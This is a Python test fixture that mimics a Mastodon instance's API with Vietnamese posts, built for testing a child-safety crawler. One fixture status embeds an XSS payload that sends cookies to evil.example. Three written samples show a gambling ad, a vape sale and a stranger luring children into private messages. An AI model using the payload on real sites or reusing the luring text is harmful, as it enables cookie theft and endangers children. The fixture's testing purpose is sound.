"""A Mastodon instance's public API for crawler tests, served by FixtureServer route functions.

Thirty statuses in the API's JSON shape (ids are snowflakes of their creation time, like Mastodon's),
written as Vietnamese users write: with and without diacritics, teencode, emoji. Most are ordinary;
three are what a child-safety unit looks for (a gambling ad, vapes sold to pupils, a stranger asking
children to message him), written without anything graphic. Also: a boost, a reply, a status behind a
content warning, a hostile one (script, onerror, javascript: link), a picture-only one, an empty one
and an unlisted one. Timelines behave as Mastodon's do: newest first, `limit` (default 20, at most 40)
and `max_id`, Link headers with rel="next" only while pages are full, no boosts or unlisted statuses
on the public timelines. /api/v1/statuses/{id} answers as the instance does after removal requests:
the gambling ad is deleted (404) and the vape shop's account suspended (410).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlencode

from tests.crawlers.fixture_server import Reply, Request

NOW = datetime(2024, 5, 20, 7, 30, tzinfo=UTC)
GONE = {"gambling_ad": 404, "vape_shop": 410}  # status key -> how /api/v1/statuses/{id} answers now


@dataclass(frozen=True)
class Account:
    key: str
    username: str
    display_name: str
    domain: str | None = None  # None: an account of this instance
    note: str = ""


ACCOUNTS = [Account(*a) for a in (
    ("minhthu", "minhthu_hn", "Minh Thư (mẹ Bống) 🌸", None, "Mẹ hai bé, Hà Nội. Chia sẻ chuyện nuôi con."),
    ("nam", "hoangnam2k9", "Nam đz", None, "2k9 | Liên Quân | chill"),
    ("thay_tuan", "thaygiao_tuan", "Thầy Tuấn - THCS", None, "Giáo viên Ngữ văn."),
    ("ba_lan", "lanpham1985", "Phạm Thị Lan", None),
    ("nhacai", "cskh_nhacai88", "NHÀ CÁI 88 - CSKH 24/7", None, "Nạp rút siêu tốc"),
    ("vape", "shop_pod_gia_re", "Pod Giá Rẻ HN", None),
    ("anh_trai", "anhtrai_mua_he", "anh trai mưa", None),
    ("cfs", "lop7a_cfs", "Lớp 7A confessions", None),
    ("phuhuynh", "hoiphuhuynh_cg", "Hội phụ huynh Cầu Giấy", None),
    ("linh", "linh", "Linh Nguyễn", "social.example.vn"),
    ("an", "an", "An Tran", "mastodon.example.org"),
)]
ACCOUNTS_BY_KEY = {account.key: account for account in ACCOUNTS}


def _tag(name: str) -> str:
    return f'<a href="{{base}}/tags/{name}" class="mention hashtag" rel="tag">#<span>{name}</span></a>'


def _mention(username: str) -> str:
    return (f'<span class="h-card" translate="no"><a href="{{base}}/@{username}" class="u-url mention">'
            f'@<span>{username}</span></a></span>')


# key, account, minutes before NOW, content HTML ({base} = the instance), extra fields
STATUSES = [
    ("clinic", "minhthu", 15, "<p>Sáng nay đưa bé Bống đi tiêm phòng ở trạm y tế phường, đông quá mọi người ơi 😅<br>"
     "Ai biết giờ nào vắng chỉ mình với ạ</p>", {"replies_count": 1, "favourites_count": 4}),
    ("clinic_reply", "nam", 12, f"<p>{_mention('minhthu_hn')} chị đi tầm 2h chiều là vắng nhất á, sáng toàn người "
     "đi làm ghé qua</p>", {"reply_to": "clinic", "mentions": ["minhthu"]}),
    ("homework", "thay_tuan", 40, "<p>Nhắc các em lớp 9A2: thứ Hai nộp bài tập Văn (đề 3, phần nghị luận xã hội)."
     "<br>Em nào chưa có đề thì nhắn qua nhóm lớp nhé.</p><p>Chúc các em cuối tuần vui vẻ! " + _tag("hocsinh")
     + "</p>", {"tags": ["hocsinh"], "favourites_count": 12, "reblogs_count": 2}),
    ("test_tomorrow", "nam", 55, "<p>hnay đi hok về mệt vl 😩 mai lại ktra 15p môn Lý, ae ôn bài chưa 🥲</p>", {}),
    ("exam_dates", "ba_lan", 70, "<p>co ai biet lich thi vao lop 10 nam nay chua a, con minh hoi ma minh ko biet "
     "tra loi sao</p>", {"language": None, "replies_count": 3}),
    ("gambling_ad", "nhacai", 90, "<p>🔥 NẠP 50K NHẬN NGAY 500K 🔥<br>Cá cược bóng đá, nổ hũ, tài xỉu uy tín số 1 VN."
     " Học sinh sinh viên cũng chơi được, ko cần CCCD, rút tiền 5 phút!!!<br>👉 Đăng ký: "
     '<a href="https://nhacai88.example/dk?ref=masto" rel="nofollow noopener noreferrer" target="_blank">'
     '<span class="invisible">https://</span><span class="">nhacai88.example/dk?ref=masto</span>'
     '<span class="invisible"></span></a> ' + _tag("hocsinh") + " " + _tag("kiemtien") + "</p>",
     {"tags": ["hocsinh", "kiemtien"]}),
    ("vape_shop", "vape", 110, "<p>Pod mini giấu vừa hộp bút, thầy cô ko phát hiện đc đâu 😎<br>Ship tận cổng "
     "trường, đóng gói kín, ib shop nha mấy em " + _tag("vape") + " " + _tag("hocsinh") + "</p>",
     {"tags": ["vape", "hocsinh"], "media": ["Ảnh sản phẩm: pod vape màu hồng đặt cạnh hộp bút"]}),
    ("stranger_dm", "anh_trai", 130, "<p>em nào lớp 6 lớp 7 muốn có skin free ff thì ib riêng anh nha, ko cần nói "
     "với bố mẹ đâu, anh cho acc vip luôn 😉</p>", {"tags": ["freefire"]}),
    ("swim_en", "an", 150, "<p>Reminder for parents in Hanoi: the city's summer swimming classes for kids open "
     "registration on Monday. Bring a health certificate.</p>", {"language": "en"}),
    ("reading_day", "linh", 170, "<p>Hôm nay trường con mình tổ chức ngày hội đọc sách, các bé hào hứng lắm ❤️📚</p>",
     {"media": ["Các bé ngồi đọc sách ở sân trường", "Góc sách do phụ huynh quyên góp"], "reblogs_count": 5}),
    ("boost", "minhthu", 160, "", {"reblog": "reading_day"}),
    ("bullying_cw", "phuhuynh", 190, "<p>Một học sinh lớp 8 bị nhóm bạn đánh hội đồng, clip đang lan trên mạng. "
     "Mong phụ huynh để ý con em mình hơn.</p><p>Đề nghị mọi người KHÔNG chia sẻ lại clip để bảo vệ cháu.</p>",
     {"spoiler_text": "Tin buồn: bạo lực học đường", "sensitive": True, "replies_count": 8}),
    ("hostile", "cfs", 210, "<p>Xem ảnh lớp mình nè<script>fetch('https://evil.example/?c='+document.cookie)"
     "</script><img src=x onerror=\"alert(1)\"><br><a href=\"javascript:alert('xss')\">bấm vào đây</a> để xem full"
     "</p><style>p{display:none}</style>", {}),
    ("flyer_only", "cfs", 230, "", {"media": ["Tờ rơi: tuyển cộng tác viên online, trả 200k/ngày, nhận cả học sinh"]}),
    ("empty", "nam", 240, "<p> </p>", {}),
    ("rank_unlisted", "nam", 250, "<p>ai chơi liên quân ko, tối nay 9h leo rank 😤</p>", {"visibility": "unlisted"}),
    ("japanese_class", "minhthu", 270, "<p>Cho mình hỏi trường THCS Nguyễn Du có dạy tiếng Nhật không ạ? Con mình sắp "
     "lên lớp 6.</p>", {}),
    ("heat", "phuhuynh", 300, "<p>Trời Hà Nội nóng 39 độ, cả nhà nhớ cho con uống đủ nước nhé 🥵</p>", {}),
    ("swim_school", "ba_lan", 330, "<p>mn ơi có ai bik chỗ học bơi cho bé 7 tuổi ở Cầu Giấy ko, uy tín xíu</p>", {}),
    ("wifi_timer", "minhthu", 360, "<p>Chia sẻ: con mình hay thức khuya chơi điện thoại, mình đặt giờ tắt wifi lúc "
     "22h, được 2 tuần rồi thấy con ngủ sớm hơn hẳn.</p>", {"favourites_count": 31, "reblogs_count": 9}),
    ("book_fair", "linh", 400, "<p>Hội chợ sách cũ ở Văn Miếu cuối tuần này nha cả nhà 📚</p>", {}),
    ("field_trip", "nam", 430, "<p>t7 này lớp mình đi dã ngoại Ba Vì, ai chưa đóng tiền thì đóng cho lớp trưởng nhé 😁"
     "</p>", {}),
    ("toddler_youtube", "minhthu", 470, "<p>Bé nhà mình 3 tuổi mà cứ thấy điện thoại là đòi xem Youtube, các mẹ có "
     "cách nào không ạ 😢</p>", {"replies_count": 14}),
    ("school_closed", "thay_tuan", 500, "<p>Thông báo: trường nghỉ học thứ Sáu để làm điểm thi.<br>Phụ huynh chú ý "
     "sắp xếp đón con.</p>", {}),
    ("online_safety_en", "an", 540, "<p>Good thread on keeping kids safe online: turn on restricted mode, and talk to "
     "them about strangers in DMs.</p>", {"language": "en"}),
    ("summer", "nam", 580, "<p>đc nghỉ hè r 🥳🥳 ai đi Sầm Sơn ko</p>", {"language": "ja"}),
    ("textbooks", "minhthu", 620, "<p>Mình bán lại bộ sách giáo khoa lớp 5 còn mới 90%, ai cần inbox nha, ở Hà Đông."
     "</p>", {}),
    ("football", "ba_lan", 660, "<p>vừa xem xong trận U23 hay quá trời 🇻🇳⚽</p>", {}),
    ("fake_teacher", "phuhuynh", 700, "<p>Cảnh giác: có tài khoản giả danh giáo viên nhắn tin xin tiền phụ huynh đóng "
     "học phí online. Mọi người không chuyển khoản khi chưa gọi xác nhận nhé.</p>", {"reblogs_count": 40}),
    ("exam_passed", "minhthu", 760, "<p>Con gái mình thi đậu vào chuyên Anh rồi, cảm ơn cô giáo chủ nhiệm nhiều lắm 🥰"
     "</p>", {"favourites_count": 57}),
]


def _snowflake(when: datetime, sequence: int) -> str:
    return str((int(when.timestamp() * 1000) << 16) | sequence)


def _iso(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _json(data, status: int = 200, headers: dict | None = None) -> Reply:
    return Reply(json.dumps(data, ensure_ascii=False), status, headers or {}, "application/json; charset=utf-8")


class MastodonFixture:
    """The instance at `base` (the FixtureServer's base_url). `routes()` for the server; `status(key)`
    and the timeline helpers give the JSON the instance serves."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.accounts = {a.key: self._account(a, n) for n, a in enumerate(ACCOUNTS)}
        self.statuses: dict[str, dict] = {}
        for sequence, (key, account, minutes, content, extra) in enumerate(STATUSES):
            self.statuses[key] = self._status(key, account, NOW - timedelta(minutes=minutes), content, extra, sequence)
        self.deleted_url = f"{base}/@minhthu_hn/{_snowflake(NOW - timedelta(days=3), 1)}"

    def status(self, key: str) -> dict:
        return self.statuses[key]

    def newest_first(self) -> list[dict]:
        return sorted(self.statuses.values(), key=lambda s: int(s["id"]), reverse=True)

    def public_timeline(self, local: bool = False) -> list[dict]:
        return [s for s in self.newest_first() if s["visibility"] == "public" and s["reblog"] is None
                and (not local or "@" not in s["account"]["acct"])]

    def tag_timeline(self, tag: str) -> list[dict]:
        return [s for s in self.public_timeline() if any(t["name"] == tag for t in s["tags"])]

    def account_statuses(self, key: str) -> list[dict]:
        return [s for s in self.newest_first() if s["account"]["id"] == self.accounts[key]["id"]]

    def routes(self) -> dict:
        def public(request: Request) -> Reply:
            return self._page(request, self.public_timeline(local=parse_qs(request.query).get("local") == ["true"]))

        routes = {"/api/v1/timelines/public": public, "/api/v1/accounts/lookup": self._lookup}
        for tag in {t["name"] for s in self.statuses.values() for t in s["tags"]}:
            routes[f"/api/v1/timelines/tag/{tag}"] = lambda request, t=tag: self._page(request, self.tag_timeline(t))
        for key, account in self.accounts.items():
            routes[f"/api/v1/accounts/{account['id']}/statuses"] = (
                lambda request, key=key: self._page(request, self.account_statuses(key)))
        for key, status in self.statuses.items():
            routes[f"/api/v1/statuses/{status['id']}"] = lambda request, key=key: self._single(key)
        routes[f"/api/v1/statuses/{self.deleted_url.rsplit('/', 1)[1]}"] = lambda request: _json(
            {"error": "Record not found"}, 404)
        return routes

    def _page(self, request: Request, statuses: list[dict]) -> Reply:
        query = {k: v[-1] for k, v in parse_qs(request.query).items()}
        try:
            limit = min(max(int(query.get("limit", 20)), 1), 40)
        except ValueError:
            return _json({"error": "Invalid limit"}, 422)
        if "max_id" in query:
            statuses = [s for s in statuses if int(s["id"]) < int(query["max_id"])]
        page = statuses[:limit]
        links = []
        kept = {k: v for k, v in query.items() if k in ("local", "limit")}
        if len(page) == limit:  # Mastodon offers a next page only after a full one
            links.append(f'<{self.base}{request.path}?{urlencode({**kept, "max_id": page[-1]["id"]})}>; rel="next"')
        if page:
            links.append(f'<{self.base}{request.path}?{urlencode({**kept, "min_id": page[0]["id"]})}>; rel="prev"')
        return _json(page, headers={"Link": ", ".join(links)} if links else {})

    def _lookup(self, request: Request) -> Reply:
        acct = parse_qs(request.query).get("acct", [""])[-1].lstrip("@")
        for account in self.accounts.values():
            if acct in (account["acct"], f"{account['username']}@{self.base.split('://')[1]}"):
                return _json(account)
        return _json({"error": "Record not found"}, 404)

    def _single(self, key: str) -> Reply:
        if key in GONE:
            return _json({"error": "Record not found" if GONE[key] == 404 else "Gone"}, GONE[key])
        return _json(self.statuses[key])

    def _account(self, account: Account, sequence: int) -> dict:
        created = NOW - timedelta(days=400 + 37 * sequence)
        local = account.domain is None
        return {
            "id": _snowflake(created, sequence), "username": account.username,
            "acct": account.username if local else f"{account.username}@{account.domain}",
            "display_name": account.display_name, "locked": False, "bot": False, "discoverable": True,
            "group": False, "created_at": _iso(created.replace(hour=0, minute=0)),
            "note": f"<p>{account.note}</p>" if account.note else "",
            "url": f"{self.base}/@{account.username}" if local else f"https://{account.domain}/@{account.username}",
            "avatar": f"{self.base}/system/accounts/avatars/{sequence:03d}/original/avatar.jpg",
            "avatar_static": f"{self.base}/system/accounts/avatars/{sequence:03d}/original/avatar.jpg",
            "header": f"{self.base}/headers/original/missing.png",
            "followers_count": 12 + 31 * sequence, "following_count": 40 + sequence, "statuses_count": 100 + sequence,
            "last_status_at": NOW.strftime("%Y-%m-%d"), "emojis": [], "fields": [],
        }

    def _status(self, key: str, account_key: str, created: datetime, content: str, extra: dict,
                sequence: int) -> dict:
        account = self.accounts[account_key]
        status_id = _snowflake(created, sequence)
        domain = ACCOUNTS_BY_KEY[account_key].domain
        if domain:  # a remote status: its own page is on its own server, under that server's id
            origin_id = _snowflake(created - timedelta(seconds=2), 900 + sequence)
            url, uri = f"{account['url']}/{origin_id}", f"https://{domain}/users/{account['username']}/statuses/{origin_id}"
        else:
            url, uri = f"{account['url']}/{status_id}", f"{self.base}/users/{account['username']}/statuses/{status_id}"
        reblog = self.statuses[extra["reblog"]] if "reblog" in extra else None
        if reblog:
            url, uri = f"{uri}/activity", f"{uri}/activity"
        parent = self.statuses[extra["reply_to"]] if "reply_to" in extra else None
        media = [{
            "id": _snowflake(created, 500 + n), "type": "image",
            "url": f"{self.base}/system/media_attachments/files/{status_id}/{n}/original/photo.jpg",
            "preview_url": f"{self.base}/system/media_attachments/files/{status_id}/{n}/small/photo.jpg",
            "remote_url": None, "preview_remote_url": None, "text_url": None,
            "meta": {"original": {"width": 1280, "height": 960, "size": "1280x960", "aspect": 1.3333}},
            "description": description, "blurhash": "UBL_:rOpGG-;~qRjWBt7%MM{M{t7-;xuWBM{",
        } for n, description in enumerate(extra.get("media", []))]
        return {
            "id": status_id, "created_at": _iso(created),
            "in_reply_to_id": parent["id"] if parent else None,
            "in_reply_to_account_id": parent["account"]["id"] if parent else None,
            "sensitive": extra.get("sensitive", False), "spoiler_text": extra.get("spoiler_text", ""),
            "visibility": extra.get("visibility", "public"),
            "language": None if reblog else extra.get("language", "vi"),
            "uri": uri, "url": url,
            "replies_count": extra.get("replies_count", 0), "reblogs_count": extra.get("reblogs_count", 0),
            "favourites_count": extra.get("favourites_count", 0), "edited_at": None,
            "content": content.replace("{base}", self.base),
            "reblog": reblog,
            "application": None if reblog else {"name": "Web", "website": None},
            "account": account, "media_attachments": media,
            "mentions": [{"id": self.accounts[m]["id"], "username": self.accounts[m]["username"],
                          "url": self.accounts[m]["url"], "acct": self.accounts[m]["acct"]}
                         for m in extra.get("mentions", [])],
            "tags": [{"name": t, "url": f"{self.base}/tags/{t}"} for t in extra.get("tags", [])],
            "emojis": [], "card": None, "poll": None,
        }
